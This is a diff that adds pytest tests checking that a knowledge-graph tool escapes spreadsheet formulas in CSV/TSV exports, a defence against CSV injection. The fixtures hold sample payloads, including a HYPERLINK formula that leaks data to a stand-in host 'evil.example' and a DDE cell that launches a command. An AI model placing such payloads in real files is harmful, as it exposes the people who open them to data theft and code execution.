@@ -392,6 +392,83 @@ def test_tsv_export_refuses_tabs(kg: KnowledgeGraph, tmp_path: Path) -> None:
     assert io.export_file(kg, tmp_path / "x.csv") == 1
 
 
+# ---------------------------------------------------------------------- formulas in CSV/TSV (CSV injection)
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
+_LIVE = re.compile(r"[=+\-@\t\r]")  # what a spreadsheet runs as a formula at the start of a cell
+
+
+@pytest.fixture
+def formulas(kg: KnowledgeGraph) -> KnowledgeGraph:
+    """Facts whose text a spreadsheet would run: a formula object, an @ subject, a leading -, +, and ' ."""
+    kg.add("@SUM(A1)", "url", HYPERLINK, valid_from="2026-01-01")
+    kg.add("-minus", "note", "+1 555 0100", source="=cmd|' /C calc'!A0")
+    kg.add("plain", "note", "'=quoted already", source="'kept as is")
+    kg.add("Ann", "works_at", "Acme", valid_from="2025-02")
+    return kg
+
+
+def _cells(path: Path, fmt: str) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        if fmt == "csv":
+            return list(csv.DictReader(fh))
+        return list(csv.DictReader(fh, delimiter="\t", quoting=csv.QUOTE_NONE))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_export_escapes_formulas_and_import_takes_the_escape_off(formulas: KnowledgeGraph, fresh, tmp_path: Path,
+                                                                 fmt: str) -> None:
+    path = tmp_path / f"facts.{fmt}"
+    assert io.export_file(formulas, path) == 4
+    rows = {r["subject_name"]: r for r in _cells(path, fmt)}
+    assert set(rows) == {"'@SUM(A1)", "'-minus", "plain", "Ann"}
+    assert (rows["'@SUM(A1)"]["subject"], rows["'@SUM(A1)"]["object_name"]) == ("'@sum(a1)", "'" + HYPERLINK)
+    assert (rows["'-minus"]["object_name"], rows["'-minus"]["source"]) == ("'+1 555 0100", "'=cmd|' /C calc'!A0")
+    # A value that begins with ' before a formula character gets one more, so the import's one-off is exact.
+    assert (rows["plain"]["object_name"], rows["plain"]["source"]) == ("''=quoted already", "'kept as is")
+    assert rows["Ann"]["object_name"] == "Acme" and rows["Ann"]["valid_from"] == "2025-02-01"  # the rest as it was
+    assert not [v for r in rows.values() for v in r.values() if v and _LIVE.match(v)]  # nothing a spreadsheet runs
+    target = fresh()
+    assert io.import_file(target, path, allow_commas=True).inserted == 4
+    assert fact_rows(target) == fact_rows(formulas)  # the round trip gives the same facts
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_export_without_escaping_writes_cells_as_they_are(formulas: KnowledgeGraph, fresh, tmp_path: Path,
+                                                          fmt: str) -> None:
+    path = tmp_path / f"raw.{fmt}"
+    io.export_file(formulas, path, escape_formulas=False)
+    rows = {r["subject_name"]: r for r in _cells(path, fmt)}
+    assert set(rows) == {"@SUM(A1)", "-minus", "plain", "Ann"}
+    assert rows["@SUM(A1)"]["object_name"] == HYPERLINK and rows["-minus"]["source"] == "=cmd|' /C calc'!A0"
+    assert rows["plain"]["object_name"] == "'=quoted already"
+    target = fresh()
+    io.import_file(target, path, allow_commas=True)
+    # The same facts, but for the one documented exception: text beginning with ' and = loses that '.
+    [quoted] = [f for f in target.query("plain")]
+    assert quoted.object == "=quoted already" and quoted.source == "'kept as is"
+    assert [r for r in fact_rows(target) if r[0] != "plain"] == [r for r in fact_rows(formulas) if r[0] != "plain"]
+
+
+def test_formulas_are_kept_verbatim_in_jsonl_and_parquet(formulas: KnowledgeGraph, tmp_path: Path) -> None:
+    for fmt in ("jsonl", "parquet"):
+        path = tmp_path / f"facts.{fmt}"
+        io.export_file(formulas, path)
+        back = io.read_facts_file(path)
+        assert {"@SUM(A1)", "-minus", "plain"} <= set(back["subject"].to_list())
+        assert {HYPERLINK, "'=quoted already"} <= set(back["object"].to_list())
+
+
+def test_rejects_file_escapes_formulas(kg: KnowledgeGraph, tmp_path: Path) -> None:
+    path, rejects = tmp_path / "bad.csv", tmp_path / "rejects.csv"
+    path.write_text('subject,predicate,object,valid_from\n@evil,url,"=HYPERLINK(""x"",""y"")",19##\nok,p,o,\n',
+                    encoding="utf-8")
+    report = io.import_file(kg, path, on_error="skip", rejects=rejects, allow_commas=True)
+    assert (report.inserted, report.rejected) == (1, 1)
+    [row] = _cells(rejects, "csv")
+    assert (row["subject"], row["object"], row["value"]) == ("'@evil", "'=HYPERLINK(\"x\",\"y\")", "19##")
+
+
 # ====================================================================== other programs' SQLite graphs
 
 # MemPalace 3.11.0, mempalace/knowledge_graph.py, KnowledgeGraph._init_db (verbatim).
